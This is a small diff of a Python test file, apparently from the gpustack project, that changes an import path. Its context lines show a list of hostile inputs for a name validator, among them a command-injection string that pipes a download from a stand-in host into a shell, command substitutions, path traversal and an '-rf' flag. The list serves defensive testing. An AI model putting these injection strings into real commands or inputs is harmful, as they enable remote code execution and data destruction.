@@ -8,7 +8,7 @@ import pytest
 
 from gpustack.ask.probe import Answer, FactUnavailable
 from gpustack.probes.kubernetes.names import PATH_SEGMENT, require_names
-from tests.worlds.cases import CASES, probes
+from tests.worlds.snapshots.answers import CASES, probes
 
 HOSTILE = (
     "x; curl evil.example|sh #", "$(id)", "`id`", "a b", "it's", 'a"b', "a\nb", "-rf", "a/../b", "A", "", "a" * 254,
